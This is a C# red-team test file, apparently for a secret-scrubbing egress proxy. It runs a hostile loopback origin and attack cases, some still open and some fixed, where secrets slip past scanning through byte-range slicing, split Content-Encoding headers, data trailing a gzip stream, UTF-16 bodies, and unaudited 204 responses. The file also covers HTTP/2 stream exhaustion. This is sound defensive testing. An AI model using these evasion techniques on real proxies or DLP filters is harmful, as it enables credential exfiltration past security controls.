using System.Collections.Concurrent;
using System.IO.Compression;
using System.Net;
using System.Net.Http;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using ProxyGuard.FunctionalTests.Infrastructure;

namespace ProxyGuard.FunctionalTests.Adversarial;

/// <summary>
/// A hostile HTTPS origin for round 7 (raw HTTP/1.1 on 127.0.0.1, no framework in the way). It "holds" a real value
/// (as a store a bound API wrote it to would) and answers by the first path segment: <c>range</c> (a stored document
/// served with byte ranges), <c>204</c>/<c>205</c>/<c>304</c> (bodiless answers), <c>hints</c> (a <c>100 Continue</c>
/// and a <c>103 Early Hints</c> carrying the value before a 200), <c>endless</c> (64 MiB of base64 alphabet without a
/// length or a line break), anything else a small JSON answer. Every request head (and a body of at most 1 MiB, sent
/// with a Content-Length) is recorded. Bounded: one request per connection, 64 KiB of head, stops on dispose.
/// </summary>
public sealed class Round7Origin : IAsyncDisposable
{
    private readonly TcpListener _listener;
    private readonly X509Certificate2 _certificate;
    private readonly CancellationTokenSource _stop = new();
    private readonly Task _accept;

    private Round7Origin(X509Certificate2 certificate, string known)
    {
        _certificate = certificate;
        Known = known;
        _listener = new TcpListener(IPAddress.Loopback, 0);
        _listener.Start();
        Port = ((IPEndPoint)_listener.LocalEndpoint).Port;
        _accept = AcceptAsync();
    }

    public int Port { get; }

    public string Known { get; }

    /// <summary>Request heads (and bodies) as received, by request target.</summary>
    public ConcurrentQueue<(string Target, string Head, byte[] Body)> Received { get; } = new();

    public const int EndlessBytes = 64 * 1024 * 1024;

    private int _open;

    /// <summary>Connections the origin holds open right now.</summary>
    public int Open => Volatile.Read(ref _open);

    public static Round7Origin Start(X509Certificate2 certificate, string known) => new(certificate, known);

    /// <summary>The stored document the <c>range</c> mode serves.</summary>
    public byte[] Document => Encoding.UTF8.GetBytes($"{{\"stored\":\"{Known}\"}}");

    private async Task AcceptAsync()
    {
        while (!_stop.IsCancellationRequested)
        {
            TcpClient client;
            try
            {
                client = await _listener.AcceptTcpClientAsync(_stop.Token);
            }
            catch (Exception) when (_stop.IsCancellationRequested)
            {
                return;
            }

            _ = ServeAsync(client);
        }
    }

    private async Task ServeAsync(TcpClient client)
    {
        Interlocked.Increment(ref _open);
        using (client)
        {
            try
            {
                using var timeout = CancellationTokenSource.CreateLinkedTokenSource(_stop.Token);
                timeout.CancelAfter(TimeSpan.FromSeconds(60));
                await using var tls = new SslStream(client.GetStream());
                await tls.AuthenticateAsServerAsync(new SslServerAuthenticationOptions
                {
                    ServerCertificate = _certificate,
                    ApplicationProtocols = [SslApplicationProtocol.Http11],
                }, timeout.Token);
                var head = await ReadHeadAsync(tls, timeout.Token);
                var target = head.Split(' ', 3) is [_, var t, _] ? t : "/";
                var body = await ReadBodyAsync(tls, head, timeout.Token);
                Received.Enqueue((target, head, body));
                var mode = target.Trim('/').Split('/', '?')[0];
                if (mode == "endless")
                {
                    await tls.WriteAsync(Raw("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\n"), timeout.Token);
                    var block = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo", 2000)))[..65536];
                    for (var sent = 0; sent < EndlessBytes; sent += block.Length)
                    {
                        await tls.WriteAsync(block, timeout.Token);
                    }
                }
                else
                {
                    await tls.WriteAsync(Response(mode, head), timeout.Token);
                }

                await tls.FlushAsync(timeout.Token);
            }
            catch (Exception ex) when (ex is IOException or OperationCanceledException or System.Security.Authentication.AuthenticationException or ObjectDisposedException)
            {
            }
            finally
            {
                Interlocked.Decrement(ref _open);
            }
        }
    }

    private static async Task<string> ReadHeadAsync(Stream stream, CancellationToken ct)
    {
        var head = new StringBuilder();
        var buffer = new byte[1];
        while (head.Length < 65536 && !head.ToString().EndsWith("\r\n\r\n", StringComparison.Ordinal))
        {
            if (await stream.ReadAsync(buffer, ct) == 0)
            {
                break;
            }

            head.Append((char)buffer[0]);
        }

        return head.ToString();
    }

    private static async Task<byte[]> ReadBodyAsync(Stream stream, string head, CancellationToken ct)
    {
        var line = head.Split("\r\n").FirstOrDefault(l => l.StartsWith("Content-Length:", StringComparison.OrdinalIgnoreCase));
        if (line is null || !int.TryParse(line[15..].Trim(), out var length) || length <= 0 || length > 1024 * 1024)
        {
            return [];
        }

        var body = new byte[length];
        await stream.ReadExactlyAsync(body, ct);
        return body;
    }

    private byte[] Response(string mode, string head)
    {
        switch (mode)
        {
            case "range":
            {
                var document = Document;
                var line = head.Split("\r\n").FirstOrDefault(l => l.StartsWith("Range: bytes=", StringComparison.OrdinalIgnoreCase));
                if (line?[(line.IndexOf('=', StringComparison.Ordinal) + 1)..].Split('-') is [var s, var e]
                    && int.TryParse(s, out var start) && int.TryParse(e, out var end) && start < document.Length)
                {
                    end = Math.Min(end, document.Length - 1);
                    var slice = document[start..(end + 1)];
                    return [.. Raw($"HTTP/1.1 206 Partial Content\r\nContent-Type: application/json\r\nContent-Range: bytes {start}-{end}/{document.Length}\r\nContent-Length: {slice.Length}\r\nConnection: close\r\n\r\n"), .. slice];
                }

                return [.. Raw($"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nAccept-Ranges: bytes\r\nContent-Length: {document.Length}\r\nConnection: close\r\n\r\n"), .. document];
            }

            case "204":
                return Raw("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            case "205":
                return Raw("HTTP/1.1 205 Reset Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
            case "304":
                return Raw("HTTP/1.1 304 Not Modified\r\nETag: \"r7\"\r\nConnection: close\r\n\r\n");
            case "partial":
                return [.. Raw($"HTTP/1.1 206 Partial Content\r\nContent-Type: application/json\r\nContent-Range: bytes 0-{Document.Length - 1}/{Document.Length + 100}\r\nContent-Length: {Document.Length}\r\nConnection: close\r\n\r\n"), .. Document];
            case "interim204":
                return Raw("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: </style.css>; rel=preload\r\n\r\n"
                    + "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
            case "split-gzip":
            {
                // The stored document, gzip-compressed, its coding split over two fields (the first empty or identity).
                var first = head.Contains("/split-gzip/empty", StringComparison.Ordinal) ? "Content-Encoding:" : "Content-Encoding: identity";
                using var compressed = new MemoryStream();
                using (var gzip = new GZipStream(compressed, CompressionLevel.Fastest, leaveOpen: true))
                {
                    gzip.Write(Document);
                }

                return [.. Raw($"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n{first}\r\nContent-Encoding: gzip\r\nContent-Length: {compressed.Length}\r\nConnection: close\r\n\r\n"), .. compressed.ToArray()];
            }

            case "hints":
                return Raw($"HTTP/1.1 100 Continue\r\nX-Leak: {Known}\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: </{Known}>; rel=preload\r\nX-Leak: {Known}\r\n\r\n"
                    + "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
            default:
                return Raw("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 11\r\nConnection: close\r\n\r\n{\"ok\":true}");
        }
    }

    private static byte[] Raw(string text) => Encoding.UTF8.GetBytes(text);

    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync();
        _listener.Stop();
        try
        {
            await _accept;
        }
        catch (OperationCanceledException)
        {
        }

        _stop.Dispose();
    }
}

/// <summary>
/// One proxy for round 7: <c>localhost</c> (the hostile origin) is allowed and bound to no secret, with the built-in
/// detectors on; <c>127.0.0.1</c> (the same origin) is allowed and is the host the secret <c>api</c> is bound to.
/// </summary>
public sealed class Round7Fixture : IAsyncLifetime
{
    /// <summary>A plain real value (letters, digits, a dash): its slices reassemble by simple concatenation.</summary>
    public string Value { get; } = "pgr7-" + Convert.ToHexString(System.Security.Cryptography.RandomNumberGenerator.GetBytes(12)).ToLowerInvariant();

    public TempDir Dir { get; } = new();

    public TestPki Pki { get; } = new();

    public Round7Origin Origin { get; private set; } = null!;

    public ProxyProcess Proxy { get; private set; } = null!;

    public string Placeholder { get; private set; } = string.Empty;

    public string OriginCaPath { get; private set; } = string.Empty;

    public async Task InitializeAsync()
    {
        Origin = Round7Origin.Start(Pki.Issue(["localhost", "127.0.0.1"]), Value);
        OriginCaPath = Pki.WriteCaPem(Dir.Path);
        Proxy = await ProxyProcess.StartAsync(Dir.File("proxy"), $"""
            version: 1
            default: deny
            network:
              allow_destinations: [127.0.0.0/8]
            tls:
              upstream_ca_files: [{OriginCaPath}]
            rules:
              - name: unbound
                hosts: [localhost]
                ports: [{Origin.Port}]
                action: allow
              - name: bound
                hosts: [127.0.0.1]
                ports: [{Origin.Port}]
                action: allow
            secrets:
              - name: api
                value: env:PG_R7_SECRET
                sandbox_env: API_TOKEN
                hosts: [127.0.0.1]
                in: [headers, body]
            """, null, new Dictionary<string, string> { ["PG_R7_SECRET"] = Value });
        Placeholder = (await Proxy.EnvAsync())["API_TOKEN"];
    }

    public string Url(string path) => $"https://localhost:{Origin.Port}{path}";

    public async Task DisposeAsync()
    {
        await Proxy.DisposeAsync();
        await Origin.DisposeAsync();
        Pki.Dispose();
        Dir.Dispose();
    }
}

/// <summary>
/// Red team round 7 (issue 15, adversarial hardening): variants beyond rounds 1-6, through the real binary, real TLS
/// and real clients (HttpClient and curl) against a hostile origin on loopback. Each open finding is skipped with its
/// id and was seen failing with the skip removed (the attack worked); the other tests are attacks that held.
/// </summary>
[Collection("proxy")]
public sealed class RedTeamRound7Tests : IClassFixture<Round7Fixture>
{
    private const string AwsKey = "AKIA" + "Z7QW4XKL2MNB5VCD";

    private readonly Round7Fixture _f;

    public RedTeamRound7Tests(Round7Fixture fixture)
    {
        _f = fixture;
    }

    /// <summary>
    /// FINDING R7-1 (medium, the real value reaches the sandbox): byte ranges from a host the secret is not bound to.
    /// Round 3 (R3-4) removes <c>Range</c> only toward the hosts a secret is bound to, on the grounds that only they can
    /// hold the value. But a bound API can publish what it stores on another host: a gist created through
    /// <c>api.github.com</c> (bound) is served by <c>gist.githubusercontent.com</c>, a file by
    /// <c>raw.githubusercontent.com</c>, an upload by a CDN or object-store host; all of them honour <c>Range</c>. The
    /// sandbox writes the placeholder through the bound API (substituted: the store now holds the real value), then
    /// asks the other host for 8-byte slices: each 206 is shorter than any form the scrubber matches and is passed
    /// through, and the slices concatenate to the value. Here the origin plays the store and answers as
    /// <c>localhost</c>, which no secret is bound to.
    /// </summary>
    [Fact]
    public async Task Byte_ranges_from_a_host_the_value_is_not_bound_to_do_not_hand_it_back_in_slices()
    {
        using var client = ProxyClients.Create(_f.Proxy.ProxyUrl, _f.Proxy.CaPath);
        var whole = await client.GetStringAsync(_f.Url("/range/whole"));
        Assert.DoesNotContain(_f.Value, whole, StringComparison.Ordinal); // the whole document is scrubbed (held)

        var length = _f.Origin.Document.Length;
        var assembled = new StringBuilder();
        var statuses = new List<int>();
        for (var start = 0; start < length; start += 8)
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, _f.Url($"/range/{start}"));
            request.Headers.Range = new System.Net.Http.Headers.RangeHeaderValue(start, Math.Min(start + 7, length - 1));
            using var response = await client.SendAsync(request);
            statuses.Add((int)response.StatusCode);
            assembled.Append(await response.Content.ReadAsStringAsync());
        }

        Assert.False(assembled.ToString().Contains(_f.Value, StringComparison.Ordinal),
            $"the real value reached the sandbox in {statuses.Count} slices (statuses {string.Join(",", statuses.Distinct())}): {assembled}");
    }

    /// <summary>
    /// FINDING R7-2 (high, a request forwarded without an audit event; every 204/205/304 broken for HTTP/2 clients):
    /// with any secret configured, a response without a body (204 No Content, 205 Reset Content, 304 Not Modified:
    /// every conditional GET of a package manager or git) makes the proxy write the scrubber's (empty) tail to a
    /// response that may not have a body. Kestrel throws <c>InvalidOperationException</c> ("Writing to the response body
    /// is invalid for responses with status code 304"), the exception leaves the pipeline before the audit stage, and
    /// the request, which already reached the origin, gets no event (the connection's event is there). An HTTP/2
    /// client sees its stream reset (<c>INTERNAL_ERROR</c>); an HTTP/1.1 client gets the status. A sandbox that
    /// controls an allowed host can thus send anything the policy allows with no request event, by having the host
    /// answer 204. Suggested fix: skip the final write of the scrubbing stream when nothing is pending (and record the
    /// event when a stage throws after forwarding).
    /// </summary>
    [Theory]
    [InlineData("204")]
    [InlineData("205")]
    [InlineData("304")]
    public async Task A_bodiless_response_reaches_an_http2_client_and_its_request_is_recorded(string status)
    {
        var path = $"/{status}/{Guid.NewGuid():N}";
        using var client = ProxyClients.Create(_f.Proxy.ProxyUrl, _f.Proxy.CaPath, HttpVersion.Version20);
        int? code = null;
        string? failure = null;
        try
        {
            using var response = await client.GetAsync(_f.Url(path));
            code = (int)response.StatusCode;
        }
        catch (HttpRequestException ex)
        {
            failure = ex.InnerException?.Message ?? ex.Message;
        }

        Assert.Contains(_f.Origin.Received, r => r.Target == path); // it was forwarded
        var recorded = (await WaitForEventOrNullAsync(e => e.GetProperty("kind").GetString() == "request" && e.GetProperty("path").GetString() == path))
            is { } e ? e.GetProperty("status").GetInt32() : (int?)null;
        Assert.True(code == int.Parse(status, System.Globalization.CultureInfo.InvariantCulture) && recorded == code,
            $"client got {code?.ToString(System.Globalization.CultureInfo.InvariantCulture) ?? failure}; request event status {recorded?.ToString(System.Globalization.CultureInfo.InvariantCulture) ?? "none (forwarded, not recorded)"}");
    }

    /// <summary>
    /// FINDING R7-3 (high, a credential leaves through an allowed host unscanned): <c>Content-Encoding</c> split over
    /// two header fields. The content scan reads the first <c>Content-Encoding</c> field only; with
    /// <c>Content-Encoding: identity</c> (or an empty field) first and <c>Content-Encoding: gzip</c> second, it scans
    /// the gzip bytes as they are and finds nothing, while the proxy forwards both fields, joined (<c>identity, gzip</c>
    /// or <c>, gzip</c>), and the upstream decodes the gzip to an AWS key. RFC 9110 (5.3) makes two fields the same as
    /// one comma-separated list, so the proxy's reading is the wrong one. (One field <c>identity, gzip</c> is decoded
    /// and refused: the bug is the field split.) curl sends the two fields as given, over HTTP/1.1 and HTTP/2.
    /// </summary>
    [Theory]
    [InlineData("--http1.1", "Content-Encoding: identity")]
    [InlineData("--http2", "Content-Encoding: identity")]
    [InlineData("--http1.1", "Content-Encoding;")]
    public async Task A_content_coding_split_over_two_header_fields_is_decoded_before_the_scan(string version, string first)
    {
        var path = $"/upload/{Guid.NewGuid():N}";
        var file = Path.Combine(_f.Dir.Path, Guid.NewGuid().ToString("N") + ".gz");
        await File.WriteAllBytesAsync(file, Gzip(Encoding.UTF8.GetBytes("aws_access_key_id = " + AwsKey + "\n")));
        var result = await Curl(version, "-X", "POST", "-H", "Content-Type: application/octet-stream", "-H", first, "-H", "Content-Encoding: gzip",
            "--data-binary", "@" + file, _f.Url(path));
        var arrived = _f.Origin.Received.FirstOrDefault(r => r.Target == path);
        var decoded = arrived.Body is { Length: > 0 } body ? Gunzip(body) : string.Empty;
        Assert.False(decoded.Contains(AwsKey, StringComparison.Ordinal),
            $"the AWS key reached the origin gzip-compressed (status {result.Stdout.Trim()}; origin saw {arrived.Head?.Split("\r\n").FirstOrDefault(l => l.StartsWith("Content-Encoding", StringComparison.OrdinalIgnoreCase))})");
        Assert.Equal("403", result.Stdout.Trim());
    }

    /// <summary>
    /// R7-2, the rest of the class: every answer that may not carry a body (a HEAD, with or without the upstream
    /// sending one anyway; a 204 after a 100 Continue and a 103 Early Hints) reaches the client with its status, over
    /// HTTP/2 and HTTP/1.1, and the request has its event with that status.
    /// </summary>
    [Theory]
    [InlineData("HEAD", "ok", "2.0", 200)]
    [InlineData("HEAD", "204", "2.0", 204)]
    [InlineData("HEAD", "ok", "1.1", 200)]
    [InlineData("GET", "interim204", "2.0", 204)]
    [InlineData("GET", "interim204", "1.1", 204)]
    public async Task Bodiless_answers_to_head_and_after_interim_responses_reach_the_client_and_are_recorded(string method, string mode, string version, int expected)
    {
        var path = $"/{mode}/{Guid.NewGuid():N}";
        using var client = ProxyClients.Create(_f.Proxy.ProxyUrl, _f.Proxy.CaPath, Version.Parse(version));
        using var request = new HttpRequestMessage(new HttpMethod(method), _f.Url(path));
        int? code = null;
        string? failure = null;
        try
        {
            using var response = await client.SendAsync(request);
            code = (int)response.StatusCode;
            Assert.Empty(await response.Content.ReadAsByteArrayAsync());
        }
        catch (HttpRequestException ex)
        {
            failure = ex.InnerException?.Message ?? ex.Message;
        }

        Assert.Contains(_f.Origin.Received, r => r.Target == path);
        var recorded = await WaitForEventOrNullAsync(e => e.GetProperty("kind").GetString() == "request" && e.GetProperty("path").GetString() == path);
        Assert.True(code == expected && recorded?.GetProperty("status").GetInt32() == expected,
            $"client got {code?.ToString(System.Globalization.CultureInfo.InvariantCulture) ?? failure}; request event {recorded?.ToString() ?? "none"}");
        Assert.Equal("allow", recorded!.Value.GetProperty("decision").GetString());
    }

    /// <summary>
    /// R7-3, the single headers: a request with <c>Content-Type</c> in two fields (one server reads the first, another
    /// the last, the scan one of them) is refused as ambiguous and never forwarded, over HTTP/1.1 and HTTP/2.
    /// </summary>
    [Theory]
    [InlineData("--http1.1")]
    [InlineData("--http2")]
    public async Task A_content_type_in_two_header_fields_is_refused_as_ambiguous(string version)
    {
        var path = $"/upload/{Guid.NewGuid():N}";
        var earlier = (await _f.Proxy.EventsAsync()).Select(e => e.GetRawText()).ToHashSet(StringComparer.Ordinal);
        var result = await Curl(version, "-X", "POST", "-H", "Content-Type: text/plain", "-H", "Content-Type: multipart/form-data; boundary=x",
            "--data-binary", "--x\r\n\r\nhello\r\n--x--\r\n", _f.Url(path));
        Assert.Equal("400", result.Stdout.Trim());
        Assert.DoesNotContain(_f.Origin.Received, r => r.Target == path);
        // Refused before the target is read, so the event has no path: it is the new request event with this reason.
        var recorded = await _f.Proxy.WaitForEventAsync(e => !earlier.Contains(e.GetRawText()) && e.GetProperty("kind").GetString() == "request"
            && e.GetProperty("reason").GetString() == "ambiguous-header");
        Assert.Equal("deny", recorded.GetProperty("decision").GetString());
    }

    /// <summary>
    /// R7-3 on the way back: a response whose coding is split over two fields (<c>identity</c> or an empty field, then
    /// <c>gzip</c>) is decoded whole and scrubbed; the client (curl decoding what it is told) never sees the value.
    /// </summary>
    [Theory]
    [InlineData("--http1.1", "identity")]
    [InlineData("--http2", "empty")]
    public async Task A_response_coding_split_over_two_header_fields_is_decoded_and_scrubbed(string version, string first)
    {
        var result = await Cli.RunProgramAsync("curl",
            ["-sS", version, "--compressed", "--max-time", "30", "--proxy", _f.Proxy.ProxyUrl, "--cacert", _f.Proxy.CaPath, "-w", "\n%{http_code}", _f.Url($"/split-gzip/{first}")],
            _f.Dir.Path, null);
        Assert.DoesNotContain(_f.Value, result.All, StringComparison.Ordinal);
        Assert.EndsWith("200", result.Stdout.Trim(), StringComparison.Ordinal);
        Assert.Contains("\"stored\"", result.Stdout, StringComparison.Ordinal); // decoded, not passed through compressed
    }

    /// <summary>
    /// R7-1, the class: while a secret is configured, <c>Range</c> and <c>If-Range</c> never reach any host (bound or
    /// not), so the whole resource is answered and scrubbed; and a 206 nobody asked for, from a host no secret is bound
    /// to, is scrubbed like any body.
    /// </summary>
    [Fact]
    public async Task Range_and_if_range_reach_no_host_and_an_unasked_partial_answer_is_scrubbed()
    {
        using var client = ProxyClients.Create(_f.Proxy.ProxyUrl, _f.Proxy.CaPath);
        var path = $"/range/{Guid.NewGuid():N}";
        using (var request = new HttpRequestMessage(HttpMethod.Get, _f.Url(path)))
        {
            request.Headers.Range = new System.Net.Http.Headers.RangeHeaderValue(0, 7);
            request.Headers.TryAddWithoutValidation("If-Range", "\"r7\"");
            using var response = await client.SendAsync(request);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.DoesNotContain(_f.Value, await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        }

        var head = _f.Origin.Received.Single(r => r.Target == path).Head;
        Assert.DoesNotContain("\r\nRange:", head, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("\r\nIf-Range:", head, StringComparison.OrdinalIgnoreCase);

        using var partial = await client.GetAsync(_f.Url("/partial/unasked"));
        Assert.Equal(HttpStatusCode.PartialContent, partial.StatusCode);
        var text = await partial.Content.ReadAsStringAsync();
        Assert.Contains("\"stored\"", text, StringComparison.Ordinal);
        Assert.DoesNotContain(_f.Value, text, StringComparison.Ordinal);
    }

    /// <summary>
    /// FINDING R7-4 (medium, a credential leaves through an allowed host unscanned): bytes after the end of a
    /// compressed body. With <c>Content-Encoding: gzip</c> (or <c>deflate</c>), the scan sees only what the decoder
    /// produces; the decoder stops at the end of the compressed stream and whatever follows it is neither decoded nor
    /// scanned as raw bytes, yet it is forwarded. A store that keeps the body as sent (an object store's PUT with a
    /// <c>Content-Encoding</c>, an artifact or paste upload) keeps the key in clear after the gzip member, for anyone
    /// who reads the object back.
    /// FIXED: a compressed body must be exactly one complete stream (gzip: one member ending at its trailer);
    /// anything after it makes the body undecodable (403), and a gzip header's text fields are scanned.
    /// </summary>
    [Theory]
    [InlineData("gzip")]
    [InlineData("deflate")]
    [InlineData("br")]
    public async Task Bytes_after_the_end_of_a_compressed_body_are_scanned(string coding)
    {
        var path = $"/upload/{Guid.NewGuid():N}";
        var hello = Encoding.UTF8.GetBytes("hello ");
        var compressed = coding switch { "gzip" => Gzip(hello), "deflate" => Zlib(hello), _ => Brotli(hello) };
        var payload = (byte[])[.. compressed, .. Encoding.UTF8.GetBytes("\naws_access_key_id = " + AwsKey + "\n")];
        using var client = ProxyClients.Create(_f.Proxy.ProxyUrl, _f.Proxy.CaPath);
        using var content = new ByteArrayContent(payload);
        content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/octet-stream");
        content.Headers.ContentEncoding.Add(coding);
        using var response = await client.PostAsync(_f.Url(path), content);
        var arrived = _f.Origin.Received.FirstOrDefault(r => r.Target == path);
        Assert.False(arrived.Body is { } body && Encoding.Latin1.GetString(body).Contains(AwsKey, StringComparison.Ordinal),
            $"the AWS key reached the origin after the {coding} stream ({(int)response.StatusCode})");
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    /// <summary>
    /// FINDING R7-5 (medium, fixed: the scanner transcodes UTF-16/32 bodies and parts): bodies in UTF-16 or UTF-32. The
    /// built-in detectors look at the body's bytes as UTF-8/ASCII text; a JSON body written in UTF-16 (with its byte
    /// order mark), or text declared <c>charset=utf-16le</c>, has a zero byte between the characters of the key and no
    /// detector fires. The server reads it as meant: Python's <c>json.loads</c> on bytes (so Flask's
    /// <c>get_json()</c> and <c>requests</c>' <c>.json()</c>) detects UTF-16 and UTF-32, and ASP.NET transcodes a
    /// request whose charset says UTF-16. (R6-2 is the same gap in the real-value matcher; this is the detectors'.)
    /// </summary>
    [Theory]
    [InlineData("application/json", "utf-16")]
    [InlineData("text/plain; charset=utf-16le", "utf-16le")]
    [InlineData("application/json", "utf-32")]
    public async Task A_cloud_key_in_a_utf16_or_utf32_body_never_reaches_the_origin(string contentType, string encoding)
    {
        var path = $"/upload/{Guid.NewGuid():N}";
        var text = "{\"aws_access_key_id\":\"" + AwsKey + "\"}";
        var payload = encoding switch
        {
            "utf-16" => (byte[])[.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(text)],
            "utf-16le" => Encoding.Unicode.GetBytes(text),
            _ => [.. Encoding.UTF32.GetPreamble(), .. Encoding.UTF32.GetBytes(text)],
        };
        using var client = ProxyClients.Create(_f.Proxy.ProxyUrl, _f.Proxy.CaPath);
        using var content = new ByteArrayContent(payload);
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        using var response = await client.PostAsync(_f.Url(path), content);
        var arrived = _f.Origin.Received.FirstOrDefault(r => r.Target == path);
        Assert.False(arrived.Body is { Length: > 0 } body && body.AsSpan().SequenceEqual(payload),
            $"the AWS key reached the origin in {encoding} ({(int)response.StatusCode})");
        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
    }

    /// <summary>
    /// FINDING R7-6 (medium, the proxy's memory and file descriptors unbounded by one client): HTTP/2 streams multiply
    /// the per-client connection limit for ordinary requests. R6-4 made each WebSocket over HTTP/2 take a connection
    /// slot of its client; an ordinary request does not, and a response the client does not read keeps its stream, its
    /// upstream connection (HTTP/1.1 upstream: one each) and the proxy's buffers for as long as the upstream has more
    /// to send. Here the limit is 4 connections per client; one client holds one HTTP/2 connection with 60 streams of a
    /// large download it never reads: the origin saw 60 connections from the proxy at once and the proxy's RSS grew by
    /// 26 MiB (about 0.4 MiB a stream). With the defaults (512 connections per client, 100 streams each) that is 51,200
    /// upstream connections for one client, more than the process's file descriptors, and on the order of 20 GiB.
    /// (By hand with curl: 400 stalled streams on 4 connections held 289 upstream connections, RSS +50 MiB.)
    /// FIXED: a client's forwarded requests in flight are bounded (twice its connection limit by default) across all
    /// its connections and streams; past it a new stream is answered 429 too-many-connections with an event.
    /// </summary>
    [Fact]
    public async Task A_client_cannot_hold_more_upstream_connections_than_its_connection_limit_with_streams()
    {
        await using var proxy = await ProxyProcess.StartAsync(_f.Dir.File("proxy-r7-6"), $"""
            version: 1
            default: deny
            network:
              allow_destinations: [127.0.0.0/8]
            tls:
              upstream_ca_files: [{_f.OriginCaPath}]
            rules:
              - name: unbound
                hosts: [localhost]
                ports: [{_f.Origin.Port}]
                action: allow
            """, null, new Dictionary<string, string> { ["PROXYGUARD_LIMIT_MAX_CONNECTIONS_PER_CLIENT"] = "4" });
        var baseline = _f.Origin.Open;
        var rssBefore = proxy.RssBytes();
        using var client = ProxyClients.Create(proxy.ProxyUrl, proxy.CaPath, HttpVersion.Version20);
        var responses = new List<HttpResponseMessage>();
        try
        {
            var sends = Enumerable.Range(0, 60).Select(i => client.GetAsync(_f.Url($"/endless/r7-6-{i}"), HttpCompletionOption.ResponseHeadersRead)).ToList();
            foreach (var send in sends)
            {
                try
                {
                    responses.Add(await send.WaitAsync(TimeSpan.FromSeconds(30)));
                }
                catch (Exception ex) when (ex is HttpRequestException or TimeoutException or TaskCanceledException)
                {
                    // refused or reset: not held
                }
            }

            var held = 0;
            for (var i = 0; i < 20; i++)
            {
                held = Math.Max(held, _f.Origin.Open - baseline);
                await Task.Delay(100);
            }

            var grown = (proxy.RssBytes() - rssBefore) / (1024 * 1024);
            Assert.True(held <= 8,
                $"one client (limit 4 connections) held {held} upstream connections with {responses.Count(r => r.IsSuccessStatusCode)} unread streams on one HTTP/2 connection; proxy RSS +{grown} MiB");
            Assert.Contains(responses, r => r.StatusCode == HttpStatusCode.TooManyRequests); // refused with a reason, not left hanging
        }
        finally
        {
            foreach (var response in responses)
            {
                response.Dispose();
            }
        }
    }

    /// <summary>
    /// R7-6, the process-wide side: however the streams are spread over clients, the proxy keeps no more upstream
    /// connections open than its bound (here 3); a request that would need one more is refused with
    /// <c>503 over-capacity</c>, and the slots come back once the stalled streams are reset.
    /// </summary>
    [Fact]
    public async Task The_proxy_holds_no_more_upstream_connections_than_its_process_wide_bound()
    {
        await using var proxy = await ProxyProcess.StartAsync(_f.Dir.File("proxy-r7-6-process"), $"""
            version: 1
            default: deny
            network:
              allow_destinations: [127.0.0.0/8]
            tls:
              upstream_ca_files: [{_f.OriginCaPath}]
            rules:
              - name: unbound
                hosts: [localhost]
                ports: [{_f.Origin.Port}]
                action: allow
            """, null, new Dictionary<string, string> { ["PROXYGUARD_LIMIT_MAX_UPSTREAM_CONNECTIONS"] = "3" });
        var baseline = _f.Origin.Open;
        var responses = new List<HttpResponseMessage>();
        using (var client = ProxyClients.Create(proxy.ProxyUrl, proxy.CaPath, HttpVersion.Version20))
        {
            try
            {
                foreach (var i in Enumerable.Range(0, 10))
                {
                    responses.Add(await client.GetAsync(_f.Url($"/endless/r7-6-process-{i}"), HttpCompletionOption.ResponseHeadersRead)
                        .WaitAsync(TimeSpan.FromSeconds(30)));
                }

                var held = 0;
                for (var i = 0; i < 10; i++)
                {
                    held = Math.Max(held, _f.Origin.Open - baseline);
                    await Task.Delay(100);
                }

                var statuses = string.Join(",", responses.Select(r => (int)r.StatusCode));
                Assert.True(held <= 3, $"the proxy held {held} upstream connections with a process-wide bound of 3 ({statuses})");
                Assert.Equal(3, responses.Count(r => r.StatusCode == HttpStatusCode.OK));
                var refused = responses.First(r => r.StatusCode == HttpStatusCode.ServiceUnavailable);
                Assert.Contains("over-capacity", await refused.Content.ReadAsStringAsync(), StringComparison.Ordinal);
                Assert.Equal("upstream-connections", refused.Headers.TryGetValues("X-ProxyGuard-Rule", out var rule) ? rule.Single() : null);
            }
            finally
            {
                foreach (var response in responses)
                {
                    response.Dispose();
                }
            }
        }

        // The stalled streams are gone (the client closed): their upstream connections close and their slots return.
        using var again = ProxyClients.Create(proxy.ProxyUrl, proxy.CaPath, HttpVersion.Version20);
        var status = HttpStatusCode.ServiceUnavailable;
        for (var attempt = 0; attempt < 50 && status != HttpStatusCode.OK; attempt++)
        {
            using var response = await again.GetAsync(_f.Url($"/plain/r7-6-after-{attempt}"));
            status = response.StatusCode;
            if (status != HttpStatusCode.OK)
            {
                await Task.Delay(200);
            }
        }

        Assert.Equal(HttpStatusCode.OK, status);
    }

    /// <summary>
    /// HELD: interim responses. The origin sends <c>100 Continue</c> and <c>103 Early Hints</c>, both carrying the value
    /// in a header (and the 103 in a <c>Link</c>), before its 200. Without the proxy curl prints them (control); through
    /// the proxy no interim response reaches the client at all, over HTTP/1.1 or HTTP/2 (the upstream client consumes
    /// them), so the value does not either.
    /// </summary>
    [Fact]
    public async Task Interim_responses_carrying_the_value_never_reach_the_sandbox()
    {
        var direct = await Cli.RunProgramAsync("curl", ["-sS", "-i", "--max-time", "20", "--cacert", _f.OriginCaPath, _f.Url("/hints/direct")],
            _f.Dir.Path, null);
